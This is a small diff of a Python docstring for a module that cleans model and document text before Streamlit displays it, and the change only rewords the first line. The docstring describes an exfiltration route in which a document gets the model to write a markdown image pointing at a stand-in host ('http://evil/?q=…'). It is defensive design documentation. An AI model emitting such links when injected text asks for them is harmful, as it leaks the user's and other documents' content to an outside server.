@@ -1,4 +1,4 @@
-"""Text of models and documents made fit for Streamlit's Markdown: no images, web links only, no accidental LaTeX.
+"""Text of models and documents made fit for Streamlit: no images, web links only, no accidental LaTeX.
 
 A document can try to send its neighbours' text out by having the model write `![](http://evil/?q=…)`.
 Streamlit already draws raw HTML as text; images and links are dealt with here, and the page's content policy
